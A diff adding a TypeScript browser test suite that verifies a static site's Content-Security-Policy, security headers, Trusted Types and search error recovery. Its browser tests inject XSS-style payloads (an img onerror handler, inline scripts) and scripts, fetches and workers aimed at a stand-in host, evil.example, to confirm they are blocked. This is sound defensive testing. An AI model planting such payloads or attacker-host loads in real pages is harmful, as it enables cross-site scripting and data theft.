@@ -1,0 +1,149 @@
+import {fromHtml} from 'hast-util-from-html'
+import type {Element, Nodes} from 'hast'
+import type {Browser, BrowserContext, Page} from 'playwright-core'
+import {readdirSync, readFileSync} from 'node:fs'
+import {join} from 'node:path'
+import {afterAll, beforeAll, describe, expect, it} from 'vitest'
+import {serveSite, type Served} from '../../scripts/static-server.ts'
+import {launchBrowser} from '../browser.ts'
+import {builtSite} from '../built-site.ts'
+
+let dir: string
+let served: Served
+let browser: Browser
+
+beforeAll(async () => {
+  dir = await builtSite()
+  served = await serveSite({dir, port: 0})
+  browser = await launchBrowser()
+})
+afterAll(async () => {
+  await browser?.close()
+  await served?.close()
+})
+
+const STRICT = {
+  'default-src': ["'none'"], 'style-src': ["'self'"], 'img-src': ["'self'"], 'manifest-src': ["'self'"], 'form-action': ["'self'"], 'base-uri': ["'none'"],
+  'require-trusted-types-for': ["'script'"], 'trusted-types': ["'none'"],
+}
+
+/** The whole policy that each kind of page must have; nothing more, nothing less. */
+const POLICIES: Record<string, Record<string, string[]>> = {
+  'no script': {...STRICT, 'script-src': ["'none'"]},
+  'scripts of the site': {...STRICT, 'script-src': ["'self'"]},
+  'search': {...STRICT, 'script-src': ["'self'", "'wasm-unsafe-eval'"], 'connect-src': ["'self'"], 'worker-src': ["'self'"], 'trusted-types': ['jiezhi-search']},
+}
+
+describe('every page', () => {
+  it('has the strictest policy that it can work with, before anything else is loaded, and nothing that the policy would have to allow', () => {
+    const wrong: string[] = []
+    let count = 0
+    for (const file of readdirSync(dir, {recursive: true, encoding: 'utf8'}).filter((name) => name.endsWith('.html'))) {
+      count++
+      const elements = elementsOf(fromHtml(readFileSync(join(dir, file), 'utf8')))
+      // A page that only leads on has nothing but that.
+      if (elements.some(({properties}) => properties.httpEquiv?.toString() === 'refresh')) continue
+      const at = elements.findIndex(({properties}) => properties.httpEquiv?.toString().toLowerCase() === 'content-security-policy')
+      const first = elements.findIndex(({tagName}) => ['link', 'script', 'style', 'img', 'base'].includes(tagName))
+      if (at === -1 || at > first) wrong.push(`${file}: no policy before the first resource`)
+      const scripts = elements.filter(({tagName, properties}) => tagName === 'script' && properties.src !== undefined)
+      const kind = file.startsWith('search/') ? 'search' : scripts.length > 0 ? 'scripts of the site' : 'no script'
+      const policy = readPolicy(String(elements[at]?.properties.content ?? ''))
+      if (JSON.stringify(sorted(policy)) !== JSON.stringify(sorted(POLICIES[kind]!))) wrong.push(`${file}: ${kind}: ${JSON.stringify(policy)}`)
+      for (const {tagName, properties} of elements) {
+        if (tagName === 'style' || tagName === 'base' || tagName === 'iframe' || tagName === 'object' || tagName === 'embed') wrong.push(`${file}: <${tagName}>`)
+        if (tagName === 'script' && properties.src === undefined && properties.type !== 'application/ld+json') wrong.push(`${file}: inline script`)
+        for (const name of Object.keys(properties)) if (/^on/iu.test(name) || name === 'style') wrong.push(`${file}: ${tagName} ${name}`)
+        const rel = ([] as unknown[]).concat(properties.rel ?? [])
+        const away = tagName === 'a' && /^(?:[a-z]+:)?\/\//iu.test(String(properties.href ?? ''))
+        if (away && !rel.includes('noreferrer') && !String(properties.href).startsWith('https://example.org/')) wrong.push(`${file}: ${String(properties.href)} without noreferrer`)
+      }
+    }
+    expect(wrong.slice(0, 10)).toEqual([])
+    expect(count).toBeGreaterThan(50)
+  })
+
+  it('is asked to keep framing away by the headers for hosts', () => {
+    const headers = readFileSync(join(dir, '_headers'), 'utf8')
+    for (const line of ["frame-ancestors 'none'", 'X-Content-Type-Options: nosniff', 'X-Frame-Options: DENY', 'Referrer-Policy: same-origin', 'Cross-Origin-Opener-Policy: same-origin']) expect(headers).toContain(line)
+    expect(readFileSync('docs/trust.md', 'utf8')).toContain("add_header Content-Security-Policy \"frame-ancestors 'none'; object-src 'none'; base-uri 'none'\"")
+  })
+})
+
+describe('in a browser', () => {
+  it.each(['', 'articles'])('the policy stops what a text might smuggle in: /%s', async (folder) => {
+    const {page, context} = await open()
+    const path = folder === '' ? '' : `${folder}/${readdirSync(join(dir, folder)).sort()[0]}/`
+    await page.goto(served.address + path)
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = []
+      addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
+      const flags = globalThis as unknown as {ran?: boolean}
+      const attempt = (work: () => void) => { try { work() } catch { violations.push('thrown') } }
+      attempt(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=true">') })
+      attempt(() => { const script = document.createElement('script'); script.textContent = 'window.ran=true'; document.body.append(script) })
+      attempt(() => { const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script) })
+      attempt(() => { document.body.setAttribute('onclick', 'window.ran=true'); document.body.click() })
+      attempt(() => { void fetch('https://evil.example/') .catch(() => {}) })
+      attempt(() => { new Worker('/x.js') })
+      await new Promise((done) => setTimeout(done, 200))
+      return {ran: flags.ran === true, thrown: violations.filter((name) => name === 'thrown').length, directives: [...new Set(violations)].sort()}
+    })
+    expect(outcome.ran).toBe(false)
+    // Trusted Types refuse text as markup, as script and as the address of a script or worker.
+    expect(outcome.thrown).toBeGreaterThanOrEqual(4)
+    expect(outcome.directives).toContain('connect-src')
+    await context.close()
+  })
+
+  it('Trusted Types let the search page make a worker of the site and no other', async () => {
+    const {page, context} = await open()
+    await page.goto(`${served.address}search/`)
+    await page.waitForSelector('#search[data-ready]', {state: 'attached'})
+    const thrown = await page.evaluate(() => {
+      const attempts = [() => new Worker('https://evil.example/w.js'), () => new Worker('/pagefind/pagefind.js'), () => (document.body.innerHTML = '<b>'), () => (globalThis as unknown as {trustedTypes: {createPolicy(name: string, rules: object): unknown}}).trustedTypes.createPolicy('other', {})]
+      return attempts.filter((attempt) => { try { attempt(); return false } catch { return true } }).length
+    })
+    expect(thrown).toBe(4)
+    await context.close()
+  })
+
+  it.each<[fault: string, make: (context: BrowserContext) => Promise<unknown>, mend: (context: BrowserContext) => Promise<unknown>]>([
+    ['the program is blocked', (context) => context.route('**/wasm.*.pagefind', (route) => route.abort()), (context) => context.unroute('**/wasm.*.pagefind')],
+    ['the program is damaged', (context) => context.route('**/wasm.*.pagefind', (route) => route.fulfill({body: 'x'})), (context) => context.unroute('**/wasm.*.pagefind')],
+    ['a part of the index is missing', (context) => context.route('**/*.pf_index', (route) => route.fulfill({status: 404, body: ''})), (context) => context.unroute('**/*.pf_index')],
+    ['the texts are missing', (context) => context.route('**/texts/*.pack', (route) => route.fulfill({status: 404, body: ''})), (context) => context.unroute('**/texts/*.pack')],
+    ['the list of the index is damaged', (context) => context.route('**/search.json', (route) => route.fulfill({body: '{'})), (context) => context.unroute('**/search.json')],
+    ['the worker is blocked', (context) => context.route('**/worker-*.js', (route) => route.abort()), (context) => context.unroute('**/worker-*.js')],
+    ['the network is gone', async (context) => { await context.route('**/pagefind/**', (route) => route.abort('internetdisconnected')) }, (context) => context.unroute('**/pagefind/**')],
+  ])('the reader is told when %s, can go on otherwise, and can try again', async (_, make, mend) => {
+    const {page, context} = await open()
+    await make(context)
+    await page.goto(`${served.address}search/?q=${encodeURIComponent('街道')}`)
+    const again = page.locator('#search').getByRole('button', {name: '重试'})
+    await again.waitFor()
+    expect(await page.textContent('#search')).toMatch(/检索没有成功|没有/u)
+    expect(await page.locator('nav.sections a').count()).toBeGreaterThan(3)
+    await mend(context)
+    await again.click()
+    await page.waitForSelector('#search-results li')
+    await context.close()
+  })
+})
+
+async function open(): Promise<{page: Page; context: BrowserContext}> {
+  const context = await browser.newContext()
+  return {page: await context.newPage(), context}
+}
+
+function elementsOf(node: Nodes): Element[] {
+  return [...(node.type === 'element' ? [node] : []), ...('children' in node ? node.children.flatMap((child) => elementsOf(child as Nodes)) : [])]
+}
+
+function readPolicy(text: string): Record<string, string[]> {
+  return Object.fromEntries(text.split(';').map((part) => part.trim().split(/\s+/u)).filter(([name]) => name).map(([name, ...values]) => [name!, values]))
+}
+
+function sorted(policy: Record<string, string[]>): [string, string[]][] {
+  return Object.entries(policy).map(([name, values]): [string, string[]] => [name, [...values].sort()]).sort(([a], [b]) => (a < b ? -1 : 1))
+}
